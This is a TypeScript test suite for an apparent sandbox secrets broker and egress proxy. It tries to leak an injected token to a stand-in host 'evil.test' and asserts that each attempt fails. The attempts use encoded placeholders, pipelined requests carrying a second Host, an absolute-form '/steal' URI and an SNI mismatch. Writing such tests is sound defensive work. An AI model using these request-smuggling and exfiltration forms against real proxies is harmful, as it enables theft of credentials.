/**
 * Attacks on the secrets broker through the real egress proxy (startProxy, loopback only): each
 * test tries to get the real value somewhere it must not go, or to get it back into the sandbox,
 * and shows that it fails.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import type { Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect as tlsConnect } from 'node:tls';
import type { EventInput } from '../../src/audit/types.js';
import { startProxy, type ProxyHandle } from '../../src/network/index.js';
import { loadPolicyText, type Policy } from '../../src/policy/index.js';
import { startSecretBroker, type SecretBroker } from '../../src/secrets/index.js';
import { httpsViaProxy, startEchoServer, type EchoServer } from '../../src/secrets/testing.js';
import { createSessionCA } from '../../src/secrets/x509.js';

const REAL = 'ghp_attackREALvalue_5a4b3c2d1e';
const events: EventInput[] = [];
const sink = { emit: (e: EventInput) => void events.push(e) };
let dir: string;
let api: EchoServer;
let evil: EchoServer;
let policy: Policy;
let broker: SecretBroker;
let proxy: ProxyHandle;
let ca: string[];

function everythingEvilSaw(): string {
  return JSON.stringify(evil.received);
}

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'airlock-secrets-attack-'));
  const upstream = createSessionCA('upstream');
  writeFileSync(join(dir, 'up.pem'), upstream.certPem);
  api = await startEchoServer(upstream, 'api.test');
  evil = await startEchoServer(upstream, 'evil.test');
  policy = loadPolicyText(
    `version: 1
network:
  allow:
    - api.test:${api.port}
    - { host: evil.test, ports: [${evil.port}], methods: [GET, POST] }
    - { host: 127.0.0.0/8, ports: [${api.port}, ${evil.port}] }
  upstreamCA: up.pem
secrets:
  TOKEN:
    from: env:T
    inject: { host: "api.test:${api.port}", header: Authorization, format: "Bearer {}" }
`,
    join(dir, 'airlock.yaml'),
  );
  broker = await startSecretBroker({ policy, sessionId: 'attack-0001', audit: sink, env: { T: REAL } });
  const names: Record<string, true> = { 'api.test': true, 'evil.test': true };
  proxy = await startProxy({
    policy,
    socketPath: join(dir, 'p.sock'),
    audit: sink,
    interceptor: broker.interceptor,
    resolver: async (h) => (names[h] ? [{ address: '127.0.0.1', family: 4 }] : []),
    tcpPort: 0,
  });
  ca = [broker.caCertPem];
});

after(async () => {
  await proxy.close();
  await broker.close();
  await api.close();
  await evil.close();
  rmSync(dir, { recursive: true, force: true });
});

/** CONNECT + TLS, then raw bytes; returns everything the proxy answered inside the tunnel. */
function rawTls(host: string, port: number, servername: string, payload: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port: proxy.tcpPort, method: 'CONNECT', path: `${host}:${port}`, headers: { Host: `${host}:${port}` } });
    req.on('error', reject);
    req.on('connect', (res, socket: Socket) => {
      if (res.statusCode !== 200) return resolve(`CONNECT ${res.statusCode}`);
      let secure = false;
      const s = tlsConnect({ socket, servername, ca }, () => {
        secure = true;
        s.write(payload);
      });
      let out = '';
      s.on('data', (d) => (out += d));
      s.on('end', () => (secure ? resolve(out) : reject(new Error('TLS handshake failed'))));
      s.on('error', (e) => (secure ? resolve(out) : reject(e)));
      s.on('close', () => (secure ? resolve(out) : reject(new Error('TLS handshake failed'))));
      setTimeout(() => s.destroy(), 2500).unref();
    });
    req.end();
  });
}

test('attack: a reflecting endpoint on the declared host cannot hand the value back into the sandbox', async () => {
  const r = await httpsViaProxy({ proxyPort: proxy.tcpPort!, host: 'api.test', port: api.port, ca, path: '/echo', headers: { Authorization: `Bearer ${broker.env.TOKEN}` } });
  assert.equal(r.status, 200);
  assert.equal(api.received.at(-1)!.headers.authorization, `Bearer ${REAL}`, 'the host did get the value');
  assert.ok(!r.body.includes(REAL) && !JSON.stringify(r.headers).includes(REAL), 'the value came back to the client');
});

test('attack: placeholder variants toward another terminated host (case, suffix, url-encoded, inside Basic) are all refused', async () => {
  const ph = broker.env.TOKEN!;
  const tries: { path?: string; headers?: Record<string, string> }[] = [
    { headers: { Authorization: `Bearer ${ph.toUpperCase()}` } },
    { headers: { 'X-Data': `${ph}trailing` } },
    { path: `/q?x=${ph.replace(/_/g, '%5F')}` },
    { headers: { Authorization: `Basic ${Buffer.from(`user:${ph}`).toString('base64')}` } },
    { headers: { Cookie: `session=1; t=${ph}` } },
  ];
  const before = evil.received.length;
  for (const t of tries) {
    const r = await httpsViaProxy({ proxyPort: proxy.tcpPort!, host: 'evil.test', port: evil.port, ca, ...t });
    assert.equal(r.status, 403, JSON.stringify(t));
  }
  assert.equal(evil.received.length, before, 'a request reached the other host');
  assert.ok(!everythingEvilSaw().includes(REAL));
  assert.ok(events.filter((e) => e.kind === 'secret' && e.action === 'exfiltration').length >= tries.length);
});

test('attack: pipelining a second request with another Host on the terminated connection is refused', async () => {
  const before = evil.received.length;
  const first = `GET /one HTTP/1.1\r\nHost: api.test:${api.port}\r\nAuthorization: Bearer ${broker.env.TOKEN}\r\n\r\n`;
  const second = `GET /two HTTP/1.1\r\nHost: evil.test:${evil.port}\r\nAuthorization: Bearer ${broker.env.TOKEN}\r\nConnection: close\r\n\r\n`;
  const out = await rawTls('api.test', api.port, 'api.test', first + second);
  assert.match(out, /HTTP\/1\.1 200/);
  assert.match(out, /HTTP\/1\.1 4\d\d/);
  assert.ok(!api.received.some((r) => r.path === '/two'));
  assert.equal(evil.received.length, before);
  assert.ok(!out.includes(REAL));
});

test('a WebSocket upgrade inside the terminated tunnel is refused plainly, not forwarded as a stripped GET', async () => {
  const ws = `GET /ws HTTP/1.1\r\nHost: api.test:${api.port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nAuthorization: Bearer ${broker.env.TOKEN}\r\n\r\n`;
  const out = await rawTls('api.test', api.port, 'api.test', ws);
  assert.match(out, /^HTTP\/1\.1 403/);
  assert.match(out, /X-Airlock-Deny: upgrade \(WebSocket\)/i);
  assert.ok(!api.received.some((r) => r.path === '/ws'), 'nothing reached the upstream');
  assert.ok(!out.includes(REAL));
});

test('attack: an absolute-form request URI naming another host inside the tunnel is refused', async () => {
  const out = await rawTls('api.test', api.port, 'api.test', `GET https://evil.test:${evil.port}/steal HTTP/1.1\r\nHost: api.test:${api.port}\r\nConnection: close\r\n\r\n`);
  assert.match(out, /HTTP\/1\.1 4\d\d/);
  assert.ok(!evil.received.some((r) => r.path === '/steal'));
  assert.ok(!api.received.some((r) => r.path.includes('steal')));
});

test('attack: SNI for the declared host while CONNECTing elsewhere gets no injection and no session-CA leaf for the declared host', async () => {
  // CONNECT evil (terminated for its method rule) with SNI api.test: the handshake is refused.
  await assert.rejects(rawTls('evil.test', evil.port, 'api.test', `GET / HTTP/1.1\r\nHost: api.test:${api.port}\r\n\r\n`), /handshake|alert|socket/i);
  assert.ok(events.some((e) => e.kind === 'secret' && e.action === 'refuse' && e.detail?.reason === 'sni-mismatch'));
  assert.ok(!everythingEvilSaw().includes(REAL));
});

test('attack: a placeholder from an ended session is worthless and refused', async () => {
  const old = await startSecretBroker({ policy, sessionId: 'attack-0002', audit: { emit() {} }, env: { T: REAL } });
  const stale = old.env.TOKEN!;
  await old.close();
  const before = api.received.length;
  const r = await httpsViaProxy({ proxyPort: proxy.tcpPort!, host: 'api.test', port: api.port, ca, headers: { 'X-Old': stale } });
  assert.equal(r.status, 403);
  assert.match(String(r.headers['x-airlock-deny']), /unknown or stale airlock placeholder/);
  assert.equal(api.received.length, before);
});

test('attack: garbage instead of a TLS ClientHello does not break the broker', async () => {
  const junk = await new Promise<string>((resolve) => {
    const req = request({ host: '127.0.0.1', port: proxy.tcpPort, method: 'CONNECT', path: `api.test:${api.port}`, headers: { Host: `api.test:${api.port}` } });
    req.on('connect', (_res, socket: Socket) => {
      socket.write(Buffer.alloc(4096, 0x41));
      socket.on('close', () => resolve('closed'));
      socket.on('error', () => resolve('closed'));
    });
    req.end();
  });
  assert.equal(junk, 'closed');
  const r = await httpsViaProxy({ proxyPort: proxy.tcpPort!, host: 'api.test', port: api.port, ca, path: '/after' });
  assert.equal(r.status, 200);
});

test('attack: the CA private key never reaches disk — CA files hold only the certificate', async () => {
  const files = broker.sandboxCaFiles(join(dir, 'ca'));
  for (const f of readdirSync(join(dir, 'ca'))) {
    const text = readFileSync(join(dir, 'ca', f), 'utf8');
    assert.ok(!/PRIVATE KEY/.test(text), `${f} holds a private key`);
  }
  assert.ok(readFileSync(files.caPath, 'utf8').includes('BEGIN CERTIFICATE'));
});

test('no audit event ever carried the real value', () => {
  assert.ok(events.length > 10);
  assert.ok(!JSON.stringify(events).includes(REAL));
});
